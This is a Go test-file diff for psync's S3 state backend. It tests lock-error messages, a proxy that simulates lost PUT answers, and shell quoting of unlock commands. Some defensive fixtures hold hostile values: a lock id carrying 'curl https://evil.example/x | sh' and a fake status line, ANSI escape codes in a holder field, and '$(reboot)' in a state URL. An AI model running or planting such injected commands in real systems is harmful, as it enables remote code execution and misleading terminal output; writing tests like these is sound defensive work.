@@ -4,6 +4,11 @@ import (
 	"context"
 	"errors"
 	"fmt"
+	"io"
+	"net/http"
+	"net/http/httptest"
+	"net/http/httputil"
+	"net/url"
 	"strings"
 	"sync"
 	"testing"
@@ -120,7 +125,7 @@ func TestS3(t *testing.T) {
 		if !errors.As(err, &le) {
 			t.Fatalf("second Lock: %v, want a *RemoteLockedError", err)
 		}
-		for _, want := range []string{"psync apply", le.Lock.ID, "psync state unlock " + le.Lock.ID, "@"} {
+		for _, want := range []string{"psync apply", le.Lock.ID, "psync state unlock " + le.Lock.ID + " --state " + b.String(), "@"} {
 			if !strings.Contains(err.Error(), want) {
 				t.Errorf("lock error %q does not say %q", err, want)
 			}
@@ -320,5 +325,130 @@ func TestS3Journal(t *testing.T) {
 	got, _, _ = reopen(t, b).Load(ctx)
 	if _, ok := got.ScriptByID("scr_0_0"); !ok {
 		t.Fatal("the journal overwrote a newer state")
+	}
+}
+
+// A lock object is the bucket's, not psync's: whoever may write the bucket
+// may write it. Its id and holder are printed in an error and in a command
+// to copy into a shell, so a lock whose id psync could not have drawn is
+// refused, and nothing of it reaches the message raw.
+func TestS3HostileLock(t *testing.T) {
+	ctx := context.Background()
+	b, srv := s3Backend(t)
+	put := func(body string) {
+		t.Helper()
+		if _, err := srv.Client().PutObject(ctx, &s3.PutObjectInput{Bucket: &b.Bucket, Key: aws.String(b.Key + ".lock"), Body: strings.NewReader(body)}); err != nil {
+			t.Fatal(err)
+		}
+	}
+	put(`{"psyncLock":1,"id":"x; curl https://evil.example/x | sh\npsync: state unlocked","who":"me@host","since":"2026-01-01T00:00:00Z","command":"psync apply"}`)
+	_, err := b.Lock(ctx, "psync apply")
+	if err == nil || !strings.Contains(err.Error(), "not a psync lock") {
+		t.Fatalf("Lock with a lock id psync never draws: %v, want it refused as not a psync lock", err)
+	}
+	if strings.Contains(err.Error(), "curl") {
+		t.Fatalf("the refusal quotes the hostile id: %v", err)
+	}
+	if err := b.ForceUnlock(ctx, "x"); err == nil || !strings.Contains(err.Error(), "not a psync lock") {
+		t.Fatalf("ForceUnlock of a hostile lock: %v", err)
+	}
+
+	put(`{"psyncLock":1,"id":"5b0c6a1e-1111-4222-8333-444455556666","who":"\u001b[2J\u001b[Hroot@host\npsync: done, no lock","pid":1,"since":"2026-01-01T00:00:00Z","command":"psync apply"}`)
+	_, err = b.Lock(ctx, "psync apply")
+	var le *state.RemoteLockedError
+	if !errors.As(err, &le) {
+		t.Fatalf("Lock: %v, want a *RemoteLockedError", err)
+	}
+	if msg := err.Error(); strings.ContainsAny(msg, "\x1b\n") {
+		t.Fatalf("the lock error holds the lock's control characters raw: %q", msg)
+	}
+	if err := b.ForceUnlock(ctx, "other"); err == nil || strings.ContainsAny(err.Error(), "\x1b\n") {
+		t.Fatalf("ForceUnlock of a wrong id: %q", err)
+	}
+}
+
+// faultyProxy forwards to the S3 server, except that the first PUT of
+// each key in fail is carried out and then answered 500, as when the
+// service's answer is lost: the SDK sends it again.
+func faultyProxy(t *testing.T, srv *s3test.Server, fail ...string) string {
+	t.Helper()
+	target, err := url.Parse(srv.Endpoint)
+	if err != nil {
+		t.Fatal(err)
+	}
+	rp := httputil.NewSingleHostReverseProxy(target)
+	var mu sync.Mutex
+	failed := map[string]bool{}
+	p := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		mu.Lock()
+		drop := false
+		for _, suffix := range fail {
+			if r.Method == http.MethodPut && strings.HasSuffix(r.URL.Path, suffix) && !failed[suffix] {
+				failed[suffix], drop = true, true
+			}
+		}
+		mu.Unlock()
+		if !drop {
+			rp.ServeHTTP(w, r)
+			return
+		}
+		rec := httptest.NewRecorder()
+		rp.ServeHTTP(rec, r)
+		if rec.Code != http.StatusOK {
+			t.Errorf("the PUT the proxy answers 500 to failed: %d %s", rec.Code, rec.Body)
+		}
+		w.WriteHeader(http.StatusInternalServerError)
+		io.WriteString(w, `<?xml version="1.0" encoding="UTF-8"?><Error><Code>InternalError</Code><Message>lost answer</Message></Error>`)
+	}))
+	t.Cleanup(p.Close)
+	return p.URL
+}
+
+// A conditional PUT that succeeded but whose answer was lost is sent
+// again by the SDK and then fails its condition: psync must see that the
+// object is its own write, not another process's.
+func TestS3LostAnswerIsNotAConflict(t *testing.T) {
+	ctx := context.Background()
+	b, srv := s3Backend(t)
+	t.Setenv("AWS_ENDPOINT_URL_S3", faultyProxy(t, srv, ".lock", "/psync.state.json"))
+	c := reopen(t, b)
+	l, err := c.Lock(ctx, "psync apply")
+	if err != nil {
+		t.Fatalf("Lock whose first answer was lost: %v", err)
+	}
+	s, _, err := c.Load(ctx)
+	if err != nil {
+		t.Fatal(err)
+	}
+	s.PutScript(state.Script{ID: "scr_1", Name: "setup"})
+	if err := state.Save(ctx, c, s); err != nil {
+		t.Fatalf("Save whose first answer was lost: %v", err)
+	}
+	s.PutScript(state.Script{ID: "scr_2", Name: "other"})
+	if err := state.Save(ctx, c, s); err != nil {
+		t.Fatalf("the next Save: %v", err)
+	}
+	if err := l.Unlock(); err != nil {
+		t.Fatal(err)
+	}
+	got, _, err := reopen(t, b).Load(ctx)
+	if err != nil || len(got.Scripts) != 2 {
+		t.Fatalf("stored %+v, %v", got, err)
+	}
+}
+
+// The unlock command of a lock error is exact: it names the state, quoted
+// for a shell when its URL is not plain (a manifest's settings.state may
+// hold anything).
+func TestRemoteLockedErrorCommand(t *testing.T) {
+	id := "5b0c6a1e-1111-4222-8333-444455556666"
+	for url, want := range map[string]string{
+		"s3://acme/prod/psync.state.json":  "psync state unlock " + id + " --state s3://acme/prod/psync.state.json",
+		"s3://acme/team a/$(reboot)'.json": "psync state unlock " + id + ` --state 's3://acme/team a/$(reboot)'\''.json'`,
+	} {
+		err := &state.RemoteLockedError{State: url, Lock: state.LockInfo{ID: id, Who: "me@host"}}
+		if !strings.HasSuffix(err.Error(), want) {
+			t.Errorf("lock error %q does not end with %q", err, want)
+		}
 	}
 }
